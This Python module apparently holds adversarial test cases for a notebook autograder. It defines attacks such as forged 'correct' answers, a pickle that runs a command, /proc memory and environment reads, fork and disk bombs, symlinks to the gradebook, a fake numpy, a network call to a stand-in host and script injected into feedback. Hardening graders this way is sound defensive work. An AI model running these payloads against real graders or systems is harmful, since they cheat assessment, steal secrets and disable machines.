"""Attacks on the process, the machine and the line between the two sides."""

from .attacks import SESSION, WRONG, Attack, edited_tests, forged_outputs, more_points
from .attacks import tests_are_mine as own_tests

FORGE = """
def bptt_single_loop(params, x, y, s, y_hat):
    import json, struct
    line = session().line.end
    text = json.dumps(["answer", {message}]).encode()
    line.sendall(struct.pack("<II", len(text), {raw}) + text)
    return tuple(np.zeros_like(p) for p in params)
"""
MORE = {
    "forged answer": Attack(
        "writes an answer of its own on the line, before the real one",
        SESSION,
        FORGE.format(message="{'list': ['', 4.0, None, True, [], []]}", raw=0),
    ),
    "forged answer, right number": Attack(
        "finds the number of the question, and answers that all is correct",
        SESSION,
        """
import sys
def bptt_single_loop(params, x, y, s, y_hat):
    frame = sys._getframe()
    while "nonce" not in frame.f_locals:
        frame = frame.f_back
    for result in (True, 4.0, "correct", (np.zeros(1),) * 3):
        session().line.write("answer", [frame.f_locals["nonce"], result, None, [], [], []])
    return tuple(np.zeros_like(p) for p in params)
""",
    ),
    "forged length": Attack(
        "announces a message of 4 GB", SESSION, FORGE.format(message="{}", raw="2**32 - 1")
    ),
    "forged pickle": Attack(
        "sends a pickle that runs a command where it is loaded",
        SESSION,
        """
def bptt_single_loop(params, x, y, s, y_hat):
    import os, pickle
    class Run:
        def __reduce__(self):
            return os.system, ("echo 4.0 > ../../../forged",)
    session().line.end.sendall(pickle.dumps(Run()))
    return tuple(np.zeros_like(p) for p in params)
""",
    ),
    "forged array": Attack(
        "sends an array whose shape is a lie",
        SESSION,
        FORGE.format(message="{'array': '<f8', 'shape': [10**9, 10**9]}", raw=0),
    ),
    "forged object": Attack(
        "sends an array of objects",
        SESSION,
        FORGE.format(message="{'array': '|O', 'shape': [1]}", raw=0),
    ),
    "forged question": Attack(
        "asks the grader to evaluate an expression",
        SESSION,
        """
def bptt_single_loop(params, x, y, s, y_hat):
    return session()._ask("package", ["builtins.eval", [["source", "1"]]])
""",
    ),
    "question while asked": Attack(
        "asks the grader for the reference by its own message",
        SESSION,
        """
def bptt_single_loop(params, x, y, s, y_hat):
    arguments = [["params", params], ["x", x], ["y", y], ["s_init", s[0]]]
    g = session()._ask("package", ["bptt.bptt", arguments])
    return g.U, g.W, g.V
""",
    ),
    "all descriptors": Attack(
        "writes to every open file and socket",
        "import os\nfor fd in range(3, 256):\n    try:\n        os.write(fd, b'4.0' * 100)\n"
        "    except OSError:\n        pass",
    ),
    "thread left behind": Attack(
        "a thread goes on after its cell and writes on the line",
        SESSION
        + """
import threading, time
def later():
    while True:
        time.sleep(0.001)
        try:
            session().line.end.sendall(b"4.0")
        except OSError:
            return
threading.Thread(target=later, daemon=True).start()""",
    ),
    "lying __array__": Attack(
        "returns objects that equal everything",
        function="""
class Liar:
    shape, dtype, ndim, size = (9, 9), np.dtype(float), 2, 81
    def __array__(self, *a, **k):
        return np.zeros((1, 1)).view(Equal)
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return lambda *a, **k: self
class Equal(np.ndarray):
    def __le__(self, other):
        return np.ones(self.shape, bool)
    def __sub__(self, other):
        return np.zeros_like(other)
def bptt_single_loop(params, x, y, s, y_hat):
    return Liar(), Liar(), Liar()
""",
    ),
    "lying subclass": Attack(
        "returns arrays whose comparison always holds",
        function="""
class Equal(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **options):
        return np.zeros(self.shape) if ufunc is not np.less_equal else np.ones(self.shape, bool)
    def __array_function__(self, function, types, args, kwargs):
        return True
def bptt_single_loop(params, x, y, s, y_hat):
    return tuple(np.zeros_like(p).view(Equal) for p in params)
""",
    ),
    "NaN": Attack(
        "returns NaN, which is not larger than any tolerance",
        function=WRONG.replace("zeros_like(p)", "full_like(p, np.nan)"),
    ),
    "nested": Attack(
        "returns a list that contains itself",
        function="""
def bptt_single_loop(params, x, y, s, y_hat):
    a = []
    a.append(a)
    return a, a, a
""",
    ),
    "huge": Attack(
        "returns two gigabytes",
        function=WRONG.replace("zeros_like(p)", "zeros((250_000_000,))"),
    ),
    "/proc": Attack(
        "reads the memory and the environment of other processes",
        """
import os
read = 0
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    for name in ("environ", "mem", "maps", "root/etc/passwd"):
        try:
            read += len(open(f"/proc/{pid}/{name}", "rb").read(100))
        except OSError:
            pass""",
    ),
    "ctypes": Attack(
        "calls ptrace, unshare and mount",
        "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "for call in (lambda: libc.ptrace(16, 1, 0, 0), lambda: libc.unshare(0x10020000),\n"
        "             lambda: libc.umount2(b'/proc', 2),\n"
        "             lambda: libc.mount(b'proc', b'/proc', b'proc', 0, None)):\n    call()",
    ),
    "kill": Attack(
        "kills every process that it may",
        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
        "except OSError:\n    pass\nos.kill(-1, signal.SIGKILL)",
    ),
    "exit while called": Attack(
        "ends the process with status 0 when it is called",
        function="import os\ndef bptt_single_loop(params, x, y, s, y_hat):\n    os._exit(0)\n",
    ),
    "sys.exit": Attack(
        "leaves when it is called",
        function="import sys\ndef bptt_single_loop(params, x, y, s, y_hat):\n    sys.exit(0)\n",
    ),
    "atexit": Attack(
        "acts when the process ends",
        "import atexit\natexit.register(lambda: open('../../../forged', 'w').write('4.0'))",
    ),
    "detached process": Attack(
        "leaves a process that acts after the grading",
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; "
        'time.sleep(5); open("../../../forged", "w")\'], start_new_session=True)',
    ),
    "fork bomb": Attack("forks without end", "import os\nwhile True:\n    os.fork()"),
    "thread bomb": Attack(
        "starts threads without end",
        "import threading, time\nwhile True:\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
    ),
    "memory": Attack("takes all memory", "a = []\nwhile True:\n    a.append(np.ones(10_000_000))"),
    "disk": Attack(
        "fills the disk",
        "import os\nfor i in range(100_000):\n    for folder in ('.', '/tmp', '/dev/shm', '/'):\n"
        "        try:\n            open(f'{folder}/{i}', 'wb').write(bytes(10_000_000))\n"
        "        except OSError:\n            pass\n    if i > 100:\n        break",
    ),
    "output": Attack("prints without end", "while True:\n    print('x' * 10_000)"),
    "output when called": Attack(
        "prints and warns a lot when it is called",
        function="""
def bptt_single_loop(params, x, y, s, y_hat):
    for i in range(20_000):
        print("x" * 1_000, i)
    return tuple(np.zeros_like(p) for p in params)
""",
    ),
    "endless": Attack(
        "catches the time limit and goes on",
        function="""
def bptt_single_loop(params, x, y, s, y_hat):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    ),
    "link made": Attack(
        "makes links to the gradebook and writes through them",
        "import os\nfor target in ('../../../gradebook.db', '/etc/passwd'):\n    try:\n"
        "        os.symlink(target, 'link')\n        open('link', 'a').write('x')\n"
        "    except OSError:\n        pass",
    ),
    "link handed in": Attack(
        "hands in links to the secret and the solution, and reads them",
        "print(open('secret.txt').read(), file=open('stolen', 'w'))",
        files={"secret.txt": "../../../secret", "stolen.ipynb": "../../../../solutions"},
    ),
    "numpy.py": Attack(
        "brings its own numpy",
        "import importlib, sys\nsys.path.insert(0, '.')\nimportlib.reload(np)",
        files={"numpy.py": "def allclose(*a, **k):\n    return True\n"},
    ),
    "bptt_lab/": Attack(
        "brings its own bptt_lab with a checker that praises",
        "import sys\nsys.path.insert(0, '.')\nfor m in [m for m in sys.modules if 'bptt_lab' in m]:"
        "\n    del sys.modules[m]\nfrom bptt_lab.checker import check",
        files={
            "bptt_lab/__init__.py": "",
            "bptt_lab/checker/__init__.py": "class R:\n    def points(self, n):\n"
            "        return float(n)\ndef check(*a, **k):\n    return R()\n",
        },
    ),
    "network": Attack(
        "sends what it finds to somewhere",
        "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=2)",
    ),
    "forged outputs": Attack("hands in outputs that say 3.0", spoil=forged_outputs),
    "edited tests": Attack("replaces the test cells by 3.0", spoil=edited_tests),
    "more points": Attack("makes each exercise worth 1000", spoil=more_points),
    "own tests": Attack("says that the test cells are its answers", spoil=own_tests),
    "script": Attack(
        "puts a script into the feedback that the instructor opens",
        "from IPython.display import HTML, display\n"
        "display(HTML('<script>fetch(\"/forged\")</script>'))",
        function="""
def bptt_single_loop(params, x, y, s, y_hat):
    raise ValueError("<script>alert(1)</script>")
""",
    ),
}
